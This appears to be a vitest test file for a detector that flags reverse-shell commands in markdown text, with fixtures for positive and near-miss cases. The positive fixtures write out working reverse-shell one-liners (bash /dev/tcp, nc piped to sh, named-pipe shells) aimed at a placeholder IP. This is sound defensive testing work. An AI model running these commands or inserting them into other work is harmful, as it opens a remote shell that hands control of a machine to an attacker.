import { describe, expect, test } from "vitest";
import { markText } from "../text/marked-text.ts";
import { reverseShell } from "./reverse-shell.ts";

const block = (...lines: readonly string[]) => ["```sh", ...lines, "```"].join("\n");

function seenIn(text: string): readonly string[] {
  return reverseShell
    .find(markText(text, "markdown"))
    .map(({ line, confidence }) => `${line} ${confidence}`);
}

describe("a shell whose input and output are a connection", () => {
  test.each([
    ["in a block", block("bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"), ["2 medium"]],
    ["in a sentence", "Run `bash -i >& /dev/tcp/203.0.113.7/4444 0>&1` now.", ["1 low"]],
    ["in one direction", block("nc 203.0.113.7 4444 | sh -i"), ["2 medium"]],
    [
      "over a named pipe",
      block("mkfifo /tmp/p", "cat /tmp/p | sh -i | nc 203.0.113.7 4444 > /tmp/p"),
      ["3 medium"],
    ],
    [
      "over a pipe that mknod makes",
      block("mknod /tmp/p p", "cat /tmp/p | sh -i | nc 203.0.113.7 4444 > /tmp/p"),
      ["3 medium"],
    ],
  ])("%s", (_name, text, expected) => {
    expect(seenIn(text)).toEqual(expected);
  });
});

describe("silent:", () => {
  test.each([
    ["a shell that writes a log", block("nc -z 203.0.113.7 22", "bash -i > session.log")],
    ["a file that is sent", block("mkfifo /tmp/p", "cat /tmp/p | nc 203.0.113.7 4444")],
    ["the output of a script", block("sh report.sh | nc 203.0.113.7 4444")],
    ["a shell on what a program prints", block("curl -V", "cat a | sh -i")],
    ["a port that is tried", block("nc -z 203.0.113.7 22", "echo > /dev/tcp/203.0.113.7/22")],
  ])("%s", (_name, text) => {
    expect(seenIn(text)).toEqual([]);
  });
});
